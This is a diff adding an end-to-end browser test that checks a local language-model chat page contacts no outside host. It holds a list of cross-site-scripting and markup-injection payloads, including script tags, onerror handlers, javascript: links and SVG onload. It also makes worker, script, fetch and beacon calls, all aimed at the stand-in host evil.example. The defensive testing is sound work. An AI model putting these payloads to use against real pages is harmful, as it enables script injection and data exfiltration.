@@ -1,0 +1,129 @@
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { launchChromium, newPage, type Watched } from "../browser/chromium.ts";
+import { type RecordingProxy, startRecordingProxy } from "../faults/recording-proxy.ts";
+import { articles, ask, serveSite, untilReady } from "./site.ts";
+
+/** What a model, an imported file or a passage might say to reach the network or to run. */
+const hostile = [
+  "<script>fetch('https://evil.example/script')</script>",
+  "<img src=https://evil.example/image onerror=\"fetch('https://evil.example/error')\">",
+  "![picture](https://evil.example/markdown-image)",
+  "[link](javascript:fetch('https://evil.example/link'))",
+  "<https://evil.example/autolink>",
+  "$\\includegraphics{https://evil.example/maths} \\href{javascript:alert(1)}{x}$",
+  "```html\n<iframe src=https://evil.example/frame></iframe>\n```",
+  "<svg onload=\"fetch('https://evil.example/svg')\">",
+  "<link rel=stylesheet href=https://evil.example/style>",
+].join("\n\n");
+
+/** Asked by Chromium itself, with an empty page too. */
+const browsersOwn: ReadonlySet<string> = new Set([
+  "accounts.google.com",
+  "clients2.google.com",
+  "content-autofill.googleapis.com",
+  "optimizationguide-pa.googleapis.com",
+  "redirector.gvt1.com",
+  "safebrowsingohttpgateway.googleapis.com",
+  "update.googleapis.com",
+  "www.google.com",
+]);
+
+describe("everything the page does, seen from the network", () => {
+  let proxy: RecordingProxy;
+  let site: Awaited<ReturnType<typeof serveSite>>;
+  let browser: Awaited<ReturnType<typeof launchChromium>>;
+  let open: Watched;
+  beforeAll(async () => {
+    site = await serveSite();
+    proxy = await startRecordingProxy(site.port);
+    browser = await launchChromium(proxy.flags);
+    open = await newPage(await browser.newContext());
+    await open.page.goto(`${site.url}?device=wasm`);
+    await untilReady(open.page);
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await proxy?.stop();
+    await site?.stop();
+  });
+
+  const foreign = () =>
+    proxy.hosts.filter((host) => host !== `localhost:${site.port}` && !browsersOwn.has(host.replace(/:443$/, "")));
+
+  it("[X9] asks no other host for anything, whatever the reader, the model or a text says", async () => {
+    const { page } = open;
+    await ask(page, "What is the capital of France?");
+    await ask(page, hostile);
+    await page.getByRole("button", { name: "Correct the answer" }).last().click();
+    const box = page.getByRole("textbox").filter({ hasNot: page.locator("[placeholder]") });
+    await box.last().fill(hostile);
+    await page.keyboard.press("Control+Enter");
+    await page.getByText("evil.example/script").last().waitFor();
+    await page
+      .getByRole("button", { name: /^Rename/ })
+      .first()
+      .click();
+    await page.keyboard.press("Escape");
+    await page.getByRole("button", { name: /^Models/ }).click();
+    await page.getByRole("dialog").waitFor();
+    await page.keyboard.press("Escape");
+    await page.reload();
+    await untilReady(page);
+    await articles(page).last().waitFor();
+    expect(await page.locator("script[src*='evil'], img[src*='evil'], iframe, link[href*='evil']").count()).toBe(0);
+    expect(proxy.hosts.length).toBeGreaterThan(5);
+    expect(foreign()).toEqual([]);
+    expect(open.troubles).toEqual([]);
+  });
+
+  it("[X9] makes nothing of text that is not meant as markup, and starts no foreign script", async () => {
+    const { page } = open;
+    const tried = await page.evaluate(async (own) => {
+      await new Promise((done) => setTimeout(done)); // the debugger may do in its first moment what the page may not
+      const attempt = (what: () => unknown) => {
+        try {
+          what();
+          return "done";
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      const element = document.createElement("div");
+      return {
+        markup: attempt(() => {
+          element.innerHTML = "<b>x</b>";
+        }),
+        code: attempt(() => Function("return 1")()),
+        foreignWorker: attempt(() => new Worker("https://evil.example/worker.js")),
+        blobWorker: attempt(() => new Worker(URL.createObjectURL(new Blob(["1"])))),
+        foreignScript: attempt(() => {
+          document.createElement("script").src = "https://evil.example/script.js";
+        }),
+        ownScript: attempt(() => new Worker(new URL("service-worker.js", own)).terminate()),
+      };
+    }, site.url);
+    expect(tried).toMatchObject({
+      markup: "TypeError",
+      code: "EvalError",
+      foreignWorker: "TypeError",
+      foreignScript: "TypeError",
+    });
+    expect(tried.ownScript).toBe("done");
+    const fetched = page.evaluate(() => fetch("https://evil.example/fetch").then(() => "done"));
+    await expect(fetched).rejects.toThrow();
+    expect(await page.evaluate(() => navigator.sendBeacon("https://evil.example/beacon", "x"))).toBe(true);
+    await page.waitForTimeout(500);
+    expect(foreign()).toEqual([]);
+  });
+
+  it("[X9] reaches a model's host only when the reader looks there for one", async () => {
+    const { page } = open;
+    await page.getByRole("button", { name: /^Models/ }).click();
+    await page
+      .getByRole("button", { name: /Dolly 3B/ })
+      .first()
+      .click();
+    await expect.poll(() => foreign().length, { timeout: 20_000 }).toBeGreaterThan(0);
+    expect(new Set(foreign())).toEqual(new Set(["huggingface.co:443"]));
+  });
+});
